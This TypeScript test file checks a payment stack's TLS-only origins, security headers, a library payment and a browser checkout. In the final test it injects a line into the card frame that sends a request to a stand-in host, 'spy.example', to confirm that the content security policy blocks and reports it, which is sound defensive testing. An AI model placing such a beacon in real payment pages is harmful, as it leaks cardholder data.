// Goal: with a certificate every origin speaks TLS 1.2 or 1.3 and nothing else, and a card is paid
// over it; a browser reports what a policy of ours stopped, by the Reporting API, which needs TLS.
// Method: a stack with a fresh certificate; raw TLS clients, the official library, a browser.
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import tls from 'node:tls';
import Stripe from 'stripe';
import { launchWholeChromium, makeCertificate, startStack } from '@coffer/testkit';
import { afterAll, expect, test } from 'vitest';
import { cardFrame, typeCard } from './merchant.ts';
import { policyReports } from './policy-reports.ts';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'coffer-tls-stack-'));
const certificate = await makeCertificate({ names: ['localhost', '127.0.0.1'] });
fs.writeFileSync(path.join(dir, 'cert.pem'), certificate.cert);
fs.writeFileSync(path.join(dir, 'key.pem'), certificate.key);
const stack = await startStack({
  env: { COFFER_TLS_CERT: path.join(dir, 'cert.pem'), COFFER_TLS_KEY: path.join(dir, 'key.pem') },
});
const ORIGINS = { api: 0, vault: 1, shop: 4, sandbox: 5 } as const;
const names = Object.keys(ORIGINS) as (keyof typeof ORIGINS)[];

afterAll(async () => {
  await stack.remove();
  fs.rmSync(dir, { recursive: true });
});

function handshake(port: number, version: tls.SecureVersion): Promise<string> {
  return new Promise((resolve) => {
    const socket = tls.connect({
      port,
      host: '127.0.0.1',
      servername: 'localhost',
      ca: certificate.cert,
      minVersion: version,
      maxVersion: version,
      // Or our own library would refuse to offer the old versions at all.
      ciphers: 'DEFAULT@SECLEVEL=0',
    });
    socket.once('secureConnect', () => {
      resolve(socket.getProtocol() ?? 'none');
      socket.destroy();
    });
    socket.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
  });
}

test.each(names)('%s speaks TLS 1.2 and 1.3, and refuses 1.0 and 1.1', async (name) => {
  const port = stack.portBase + ORIGINS[name];
  expect(stack[name]).toBe(`https://localhost:${port}`);
  expect(await handshake(port, 'TLSv1.3')).toBe('TLSv1.3');
  expect(await handshake(port, 'TLSv1.2')).toBe('TLSv1.2');
  const refused = /^ERR_SSL_TLSV1_ALERT_PROTOCOL_VERSION$/;
  expect(await handshake(port, 'TLSv1.1')).toMatch(refused);
  expect(await handshake(port, 'TLSv1')).toMatch(refused);
});

test.each(names)('%s does not answer in clear', async (name) => {
  const answer = await new Promise<string>((resolve) => {
    const request = http.get({
      host: '127.0.0.1',
      port: stack.portBase + ORIGINS[name],
      path: '/',
    });
    request.once('response', (response) => resolve(`status ${response.statusCode}`));
    request.once('error', () => resolve('no answer'));
  });
  expect(answer).toBe('no answer');
});

function answerTo(url: string): Promise<http.IncomingMessage> {
  return new Promise((resolve, reject) => {
    https
      .get(url, { ca: certificate.cert }, (response) => resolve(response.resume()))
      .once('error', reject);
  });
}

test.each(['api', 'vault'] as const)('%s tells browsers to stay on TLS', async (name) => {
  const { headers } = await answerTo(`${stack[name]}/v1/account`);
  expect(headers['strict-transport-security']).toBe('max-age=63072000; includeSubDomains');
});

test('a page of ours names the collector of reports in both ways', async () => {
  const { headers } = await answerTo(`${stack.vault}/fields/card`);
  const collector = `${stack.checkout}/reports`;
  expect(headers['reporting-endpoints']).toBe(`coffer="${collector}"`);
  expect(headers['content-security-policy']).toContain(`report-uri ${collector}; report-to coffer`);
  expect(headers['cross-origin-embedder-policy']).toBe('require-corp; report-to="coffer"');
});

test('the official library pays over TLS', async () => {
  const stripe = new Stripe(stack.secret_key, {
    host: 'localhost',
    port: stack.portBase,
    httpAgent: new https.Agent({ ca: certificate.cert }),
  });
  const intent = await stripe.paymentIntents.create({
    amount: 1200,
    currency: 'eur',
    payment_method: 'pm_card_visa',
    confirm: true,
    automatic_payment_methods: { enabled: true, allow_redirects: 'never' },
  });
  expect(intent.status).toBe('succeeded');
});

test('the shop is paid in a browser over TLS, which reports what a policy of ours stopped', async () => {
  // Reports go to good certificates alone, and by themselves a minute later; the shell sends none.
  const browser = await launchWholeChromium([
    '--ignore-certificate-errors',
    '--short-reporting-delay',
  ]);
  const page = await browser.newPage();
  await page.goto(stack.shop);
  await page.locator('form[data-ready="true"]').waitFor();
  // As an extension would that was let into the frame.
  await cardFrame(page, '#payment')
    .locator('body')
    .evaluate(`void (new Image().src = 'https://spy.example:8443/seen?card=1#x')`);
  await page.fill('input[name=email]', 'jenny@example.com');
  await typeCard(cardFrame(page, '#payment'), { number: '4242424242424242' });
  await page.click('#submit');
  await page.waitForURL(/\/receipt/);
  const report = {
    ...{ directive: 'img-src', blocked: 'https://spy.example:8443' },
    // The shop pins a version, which looks like an id.
    ...{ page: '/sdk/:id/fields/payment', count: 1 },
  };
  await expect.poll(() => policyReports(stack)).toEqual([report]);
  await browser.close();
});
